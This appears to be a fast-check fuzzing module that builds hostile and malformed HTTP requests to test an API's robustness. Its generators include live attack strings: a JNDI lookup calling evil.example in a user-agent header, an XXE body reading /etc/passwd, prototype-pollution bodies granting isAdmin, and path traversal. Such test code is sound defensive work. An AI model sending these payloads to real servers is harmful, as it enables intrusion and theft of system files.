import { applicationClients, calls, endpointPath, product, type Call, type CallId } from '@loto/api-contract';
import fc from 'fast-check';
import { z } from 'zod';
import { hostileText } from './hostile-texts.ts';
import { hostileValue } from './hostile-values.ts';
import { valueOf, type JsonSchema } from './schema-values.ts';
import { spoiled } from './spoiled-values.ts';

/** A request as it goes over the wire. */
export interface HostileRequest {
  /** The call it was made from. */
  readonly callId: CallId;
  readonly method: string;
  readonly path: string;
  /** Names may come twice. `{token}` stands for a good access token. */
  readonly headers: readonly (readonly [string, string])[];
  readonly body: Buffer | null;
  /** `cut`: the connection ends in the middle of the body. `slow`: it comes in two parts. */
  readonly sending: 'whole' | 'slow' | 'cut';
}

const someId = '6f1f9a3e-6d0c-4a51-9d9b-2c6f0f9b7a11';

/** Requests that somebody might send who means harm or whose program is broken, each made from a call of the contract. */
const hostileRequest: fc.Arbitrary<HostileRequest> = fc
  .constantFrom(...Object.values<Call>(calls))
  .chain((call) =>
    fc
      .record({
        method: methodOf(call),
        path: pathOf(call),
        query: queryOf(call),
        headers: headersOf(call),
        body: bodyOf(call),
        type: contentType,
        sending: fc.constantFrom<HostileRequest['sending']>(
          ...Array<'whole'>(60).fill('whole'),
          'slow',
          'cut',
        ),
      })
      .map(({ method, path, query, headers, body, type, sending }) => ({
        callId: call.id,
        method,
        path: wireSafe(path + query).slice(0, 15_000),
        headers: body === null || type === null ? headers : [...headers, ['content-type', type] as const],
        body,
        sending: body === null ? 'whole' : sending,
      })),
  );

/** Hostile requests; the same seed gives the same ones. */
export function hostileRequests(count: number, seed: number): HostileRequest[] {
  return fc.sample(hostileRequest, { seed, numRuns: count });
}

/** Mostly `usual`, so that the other parts of a request are looked at as well. */
function mostly<T>(usual: fc.Arbitrary<T>, odd: fc.Arbitrary<T>, weight = 9): fc.Arbitrary<T> {
  return fc.oneof({ weight, arbitrary: usual }, { weight: 1, arbitrary: odd });
}

function methodOf({ method }: Call): fc.Arbitrary<string> {
  const odd = fc.constantFrom(
    'GET',
    'POST',
    'PUT',
    'PATCH',
    'DELETE',
    'HEAD',
    'OPTIONS',
    'TRACE',
    'PROPFIND',
    'get',
    'BREW',
  );
  return mostly(fc.constant(method), odd, 19);
}

function pathOf(call: Call): fc.Arbitrary<string> {
  const ids = mostly(fc.constant(someId), hostileText.map(encodePart), 2);
  const path = ids.map((id) => endpointPath(call, product.slug, 'ID').replace('ID', () => id));
  const odd = fc
    .tuple(
      path,
      hostileText.map(encodePart),
      fc.constantFrom<(path: string, part: string) => string>(
        (good) => good.toUpperCase(),
        (good) => `${good}/`,
        (good) => `/${good}`,
        (good) => good.replaceAll('/', '//'),
        (good) => good.replace('/v2/', '/v3/'),
        (good) => `/api/..${good}`,
        (good) => `http://evil.example${good}`,
        (good, part) => `${good}/${part}`,
        (good, part) => good.replace('user', part),
        (good) => `${good};a=b`,
        (good) => `${good}%`,
        (good) => `${good}%ff%fe`,
        (good) => `${good}%00.json`,
        () => '*',
        (_good, part) => `/${part}`,
        (_good, part) => `/files/tickets/${part}.pdf`,
        () => '/api/payment/notifications/sandbox',
        () => '/api/v2/user/sign-in-return/google',
        () => '/api/v2/user/sign-in-return/apple',
        () => '/api/docs/json',
        () => '/api/health',
      ),
    )
    .map(([good, part, change]) => change(good, part));
  return mostly(path, odd, 14);
}

function queryOf(call: Call): fc.Arbitrary<string> {
  const good = valueOf(schemaOf(call.query)).map((query) => searchOf(Object.entries(query as object)));
  const part = hostileText.map(encodePart);
  const odd = fc.oneof(
    fc
      .tuple(good, part, part)
      .map(([search, name, value]) => `${search === '' ? '?' : `${search}&`}${name}=${value}`),
    valueOf(schemaOf(call.query))
      .chain(spoiled)
      .map((query) => searchOf(Object.entries(Object(query) as object))),
    fc.constantFrom(
      '?',
      '??',
      '?&&&=',
      '?a',
      '?limit[]=1',
      '?limit=1&limit=2',
      '?offset=1e3',
      '?limit=%',
      `?${'a=b&'.repeat(2000)}`,
    ),
  );
  return mostly(good, odd, 6);
}

function searchOf(entries: [string, unknown][]): string {
  const search = entries.map(([name, value]) => `${encodePart(name)}=${encodePart(textOf(value))}`).join('&');
  return search === '' ? '' : `?${search}`;
}

function textOf(value: unknown): string {
  return typeof value === 'string' ? value : (JSON.stringify(value) ?? '');
}

type Header = readonly [string, string];

function headersOf({ isIdempotent }: Call): fc.Arbitrary<Header[]> {
  const text = hostileText.map((each) => wireSafe(each).slice(0, 4000));
  const one = (name: string, good: fc.Arbitrary<string>, weight: number): fc.Arbitrary<Header[]> =>
    mostly(
      good.map((value) => [[name, value] as const]),
      fc.oneof(
        text.map((value) => [[name, value] as const]),
        fc.constant<Header[]>([]),
        fc.tuple(good, text).map(([first, second]) => [[name, first] as const, [name, second] as const]),
      ),
      weight,
    );
  const odd = fc.constantFrom<Header>(
    ['x-forwarded-for', '1.2.3.4, evil'],
    ['x-http-method-override', 'DELETE'],
    ['expect', '100-continue'],
    ['content-encoding', 'gzip'],
    ['accept', 'text/html'],
    ['accept-encoding', 'br;q=a'],
    ['origin', 'null'],
    ['range', 'bytes=0-99999999999'],
    ['if-none-match', '*'],
    ['upgrade', 'websocket'],
    ['te', 'trailers'],
    ['cookie', 'a=b; __proto__=c'],
    ['x-long', 'x'.repeat(9000)],
    ['x-longer', 'x'.repeat(40_000)],
    ['user-agent', '${jndi:ldap://evil.example/a}'],
    ['user-agent', 'a'.repeat(8000)],
  );
  const key = mostly<string>(fc.uuid(), fc.constant('the-same-key-again'));
  return fc
    .tuple(
      one('applicationclient', fc.constantFrom<string>(...applicationClients.slice(0, 3)), 30),
      one('appversion', fc.constant(product.appVersion), 30),
      one('accept-language', fc.constantFrom('ro', 'en'), 9),
      one('authorization', fc.constantFrom('Bearer {token}'), 7),
      isIdempotent === true
        ? one('idempotency-key', key, 9)
        : mostly(
            fc.constant<Header[]>([]),
            key.map((each) => [['idempotency-key', each] as const]),
          ),
      mostly(
        fc.constant<Header[]>([]),
        odd.map((each) => [each]),
        14,
      ),
    )
    .map((parts) => parts.flat());
}

const contentType: fc.Arbitrary<string | null> = mostly<string | null>(
  fc.constantFrom('application/json', 'application/json; charset=utf-8'),
  fc.constantFrom(
    null,
    '',
    'text/plain',
    'text/xml',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=a',
    'application/json; charset=utf-16',
    'application/vnd.api+json',
    'APPLICATION/JSON',
    'application/json, text/plain',
    '*/*',
    '\u00ff\u00fe',
    ';;;',
  ),
  11,
);

function bodyOf(call: Call): fc.Arbitrary<Buffer | null> {
  if (call.method !== 'POST') return mostly(fc.constant(null), hostileValue.map(jsonBody));
  const good = valueOf(schemaOf(call.body));
  const raw = fc.constantFrom(
    Buffer.alloc(0),
    Buffer.from('{'),
    Buffer.from('{"email":"a'),
    Buffer.from('[1,2,'),
    Buffer.from('nul'),
    Buffer.from('{"a":1}{"a":2}'),
    Buffer.from("{'a':1}"),
    Buffer.from('{"a":1e999,"a":-0}'),
    Buffer.from('{"a":"\\ud800"}'),
    Buffer.from('\ufeff{}'),
    Buffer.from('{"__proto__":{"isAdmin":true}}'),
    Buffer.from('{"constructor":{"prototype":{"isAdmin":true}}}'),
    Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
    Buffer.from([0x1f, 0x8b, 0x08, 0x00]),
    Buffer.from(`${'['.repeat(30_000)}${']'.repeat(30_000)}`),
    Buffer.from(`${'{"a":'.repeat(9000)}1${'}'.repeat(9000)}`),
    Buffer.from(`"${'x'.repeat(64 * 1024 - 2)}"`),
    Buffer.alloc(64 * 1024 + 1, ' '),
    Buffer.alloc(300_000, '1'),
    Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    Buffer.from('email=a&password=b'),
  );
  return fc.oneof(
    { weight: 3, arbitrary: good.map(jsonBody) },
    { weight: 8, arbitrary: good.chain(spoiled).map(jsonBody) },
    { weight: 2, arbitrary: good.chain(spoiled).chain(spoiled).map(jsonBody) },
    { weight: 1, arbitrary: hostileValue.map(jsonBody) },
    { weight: 1, arbitrary: raw },
  );
}

function jsonBody(value: unknown): Buffer {
  return Buffer.from(JSON.stringify(value) ?? '');
}

function schemaOf(schema: z.ZodType): JsonSchema {
  return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
}

/** Percent-encodes what an address cannot hold; lone surrogates, which have no encoding, become one by hand. */
function encodePart(text: string): string {
  return encodeURIComponent(text.toWellFormed()).slice(0, 12_000);
}

/** What stays within a line of a head: other signs would be another request, not an odd one. */
function wireSafe(text: string): string {
  return text.replaceAll(/[^\x21-\x7e\x80-\xff]/g, '+');
}
